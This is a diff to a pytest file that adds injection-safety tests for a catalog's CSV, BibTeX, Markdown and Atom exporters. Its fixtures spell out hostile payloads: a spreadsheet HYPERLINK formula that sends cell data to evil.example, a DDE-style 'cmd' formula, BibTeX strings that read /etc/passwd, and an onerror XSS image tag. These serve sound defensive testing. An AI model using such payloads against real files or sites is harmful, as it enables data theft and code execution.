@@ -10,13 +10,15 @@ import re
 import xml.etree.ElementTree as ET
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import unquote
 
 import pytest
 
 from fmcheatsheet import Catalog
 from fmcheatsheet.exports import FORMATS, ExportOptions, exporters
+from fmcheatsheet.model import Links, Resource
 from tests.conftest import run_cli
-from tests.factory import resource
+from tests.factory import SECTIONS, resource
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 TRICKY = 'A tool, with "quotes", commas\nand a line break; it exists for tests and nothing else.'
@@ -39,7 +41,7 @@ def test_csv_round_trips_one_row_per_resource(make_catalog: Callable[..., Path],
     assert len(rows) == 2
     tricky = next(r for r in rows if r["id"] == "tricky")
     assert tricky["name"] == 'Tricky, "Quoted" Name'
-    assert tricky["description"] == TRICKY
+    assert tricky["description"] == " ".join(TRICKY.split())  # descriptions are stored with single spaces
 
 
 def test_jsonl_has_one_object_per_line(catalog: Catalog) -> None:
@@ -150,3 +152,82 @@ def test_the_site_links_every_export_and_the_feed(tmp_path: Path, catalog: Catal
         assert f'href="{export_format.path}">{export_format.label}</a>' in home
         assert f'href="../{export_format.path}"' in browse
         assert (tmp_path / "site" / export_format.path).stat().st_size > 0
+
+
+def constructed(rid: str, **fields: object) -> Resource:
+    """A resource built without validation: exports must stay safe even for values the validator would refuse."""
+    data = resource(rid, **fields)
+    links = Links.model_construct(**data.pop("links"))
+    return Resource.model_construct(**{**data, "links": links, "tags": data.get("tags", []), "featured": False})
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1"]
+)
+def test_csv_cells_never_start_a_formula(make_catalog: Callable[..., Path], text: str) -> None:
+    root = make_catalog([resource("formula", name=text.strip() or "x", description=text + " " + TRICKY)])
+    rows = list(csv.DictReader(io.StringIO(str(export(Catalog.load(root), "csv")), newline="")))
+    for cell in (rows[0]["name"], rows[0]["description"]):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert cell.startswith("'")
+
+
+@pytest.mark.parametrize(
+    "paper",
+    [
+        "https://example.org/},note={\\input{/etc/passwd}}",
+        "https://arxiv.org/abs/x},note={\\input{/etc/passwd}}",
+        "10.1234/x},note={\\input{/etc/passwd}}",
+    ],
+)
+def test_bibtex_fields_cannot_be_broken_out_of(make_catalog: Callable[..., Path], paper: str) -> None:
+    import bibtexparser
+
+    name = "Evil} Name{ \\input{x} 50%"
+    root = make_catalog([resource("injected", name=name, links={"website": "https://example.org/", "paper": paper})])
+    text = str(export(Catalog.load(root), "bibtex"))
+    library = bibtexparser.parse_string(text)
+    assert not library.failed_blocks
+    [entry] = library.entries
+    fields = entry.fields_dict
+    assert set(fields) <= {"title", "year", "month", "eprint", "archiveprefix", "doi", "url", "note"}
+    assert "passwd" not in fields["note"].value and fields["note"].value.startswith("Evil")
+    assert text.count("{") == text.count("}")
+    assert "\\input" not in text
+
+
+def test_markdown_text_cannot_add_headings_or_break_links(make_catalog: Callable[..., Path]) -> None:
+    from markdown_it import MarkdownIt
+
+    url = "https://example.org/a)<img/src=x/onerror=alert(1)>(b\\c"
+    description = "Evil\n\n## Injected sub-heading\n\n- injected item & more &copy; words to reach forty chars"
+    root = make_catalog(
+        [resource("evil", name="Evil\n\n# Injected heading", description=description, links={"website": url})]
+    )
+    catalog = Catalog.load(root)
+    html = MarkdownIt("commonmark").render(str(export(catalog, "markdown")))
+    assert "Injected heading</h1>" not in html and "Injected sub-heading</h2>" not in html
+    assert "<li>injected item" not in html and "&amp;copy;" in html
+    [href] = [h for h in re.findall(r'href="([^"]+)"', html) if "example.org" in h]
+    assert unquote(href.replace("&amp;", "&")) == url
+
+
+def test_markdown_guidance_cannot_start_a_block(make_catalog: Callable[..., Path]) -> None:
+    from markdown_it import MarkdownIt
+
+    sections = {
+        sid: {**body, "scope": f"{start} {body['scope']}"}
+        for (sid, body), start in zip(SECTIONS.items(), ["1. Numbered", "- Bullet", "> Quote"], strict=True)
+    }
+    root = make_catalog([resource("plain")], sections=sections)
+    html = MarkdownIt("commonmark").render(str(export(Catalog.load(root), "markdown")))
+    assert "<ol>" not in html and "<blockquote>" not in html and "<li>Bullet" not in html
+
+
+def test_the_feed_stays_well_formed_whatever_the_text() -> None:
+    from fmcheatsheet.exports.atom_export import to_atom
+
+    evil = constructed("evil", name="Evil \uffff\ufffe name", description="Text with \x01 and \ufffe " * 3)
+    catalog = Catalog(Path(), [], {}, {"evil": evil})
+    feed = ET.fromstring(to_atom(catalog, [evil], ExportOptions()).encode("utf-8"))
+    assert feed.find(f"{ATOM}entry/{ATOM}title").text == "Evil \ufffd\ufffd name"
